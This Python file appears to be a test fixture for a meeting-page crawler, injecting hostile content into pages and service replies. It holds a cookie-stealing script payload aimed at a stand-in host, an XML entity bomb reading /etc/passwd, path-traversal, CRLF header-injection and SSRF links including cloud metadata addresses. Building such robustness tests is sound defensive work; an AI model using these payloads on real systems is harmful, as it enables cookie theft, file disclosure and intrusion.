"""What somebody who means harm could put into a meeting's page, and into what the web service says of it."""

from collections.abc import Callable
from html import escape

from crawler.sample.asking import Reply, moved
from crawler.sample.options import Hostile

_DEPTH, _LONG = 10_000, 5_000_000
_TITLE, _WORD, _ACTIONS = '<td><p  class="mgAiTitleTxt" >', '<div  class="mgWordPara" >', '<ul  class="mgActionList" >'
_SCRIPT = "<script>document.location='http://outside.invalid/?'+document.cookie</script><img src=x onerror=alert(1)>"
_CONTROLS = "A title with \x00\x01\x08\x0b\x0c\x1b[31m\x7f\u202e and \ufffe in it. "
_BOMB = (
    '<!DOCTYPE meeting [<!ENTITY a0 "ha"><!ENTITY file SYSTEM "file:///etc/passwd">'
    + "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 10))
    + "]>\n"
)
_LINKS = {
    Hostile.FILES: (
        "file:///etc/passwd",
        "documents/s1/../../../../../etc/passwd",
        "documents/s2/..%2F..%2F..%2Fetc%2Fpasswd.pdf",
        "documents/s3/..\\..\\windows\\system.ini",
        "documents/s4/" + "a" * 5000 + ".pdf",
        "documents/s5/%00.pdf",
    ),
    Hostile.SCHEMES: (
        "javascript:alert(document.cookie)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "ftp://outside.invalid/documents/s6/x.pdf",
        "gopher://127.0.0.1:25/_HELO",
        "vbscript:msgbox(1)",
    ),
    Hostile.BREAKS: (
        "documents/s7/A report\r\n with a break.pdf",
        "documents/s8/x.pdf\r\nHost: outside.invalid\r\nX-Injected: 1",
        "documents/s9/x.pdf%0d%0aX-Injected:%201",
    ),
    Hostile.INSIDE: (
        "http://127.0.0.1:22/documents/s10/x.pdf",
        "http://169.254.169.254/latest/meta-data/",
        "http://10.0.0.1/documents/s11/x.pdf",
        "http://[::1]/documents/s12/x.pdf",
        "http://0x7f000001/documents/s13/x.pdf",
        "http://user:secret@192.168.0.1/documents/s14/x.pdf",
        "//localhost/documents/s15/x.pdf",
    ),
}


def poisoned_page(kind: Hostile, page: str, outside: str) -> Reply:
    """A meeting's page, poisoned."""
    if kind is Hostile.OUTSIDE:
        return moved(outside)
    if kind in _LINKS:
        entries = "".join(f'<li><a href="{escape(each)}">Report</a></li>' for each in _LINKS[kind])
        page = page.replace(_ACTIONS, f'{_ACTIONS}{entries}', 1)
    elif kind in (Hostile.SCRIPT, Hostile.CONTROLS):
        page = page.replace(_TITLE, f"{_TITLE}{_SCRIPT if kind is Hostile.SCRIPT else _CONTROLS}", 1)
    else:
        page = page.replace(_WORD, f"{_WORD}{_BULK.get(kind, str)()}", 1)
    return Reply(page.encode("utf-8", "surrogatepass"))


def poisoned_service(kind: Hostile, reply: str) -> str:
    """The `GetMeeting` of a meeting, poisoned; `reply` is without its declaration."""
    if kind is Hostile.ENTITIES:
        return _BOMB + reply.replace("<meetinglocation>", "<meetinglocation>&a9;&file;", 1)
    if kind is Hostile.SCRIPT:
        return reply.replace("<agendaitemtitle>", f"<agendaitemtitle>{escape(escape(_SCRIPT))}", 1)
    if kind is Hostile.CONTROLS:
        return reply.replace("<agendaitemtitle>", f"<agendaitemtitle>{_CONTROLS}&#1;", 1)
    if kind in _BULK:
        body = "<minutesnonemptyhtmlbody>"
        return reply.replace(body, f"{body}{escape(_BULK[kind]())}", 1)
    links = iter(_LINKS.get(kind, ()))
    return "".join(
        part if not at else f"<url>{escape(next(links, ''))}</url>{part.partition('</url>')[2]}"
        for at, part in enumerate(reply.split("<url>"))
    ) if kind in _LINKS else reply


_BULK: dict[Hostile, Callable[[], str]] = {
    Hostile.DEEP: lambda: "<div><b>" * (_DEPTH // 2) + "deep" + "</b></div>" * (_DEPTH // 2),
    Hostile.HUGE: lambda: f"<p>{'The discussion went on and on. ' * (_LONG // 31)}</p>",
}
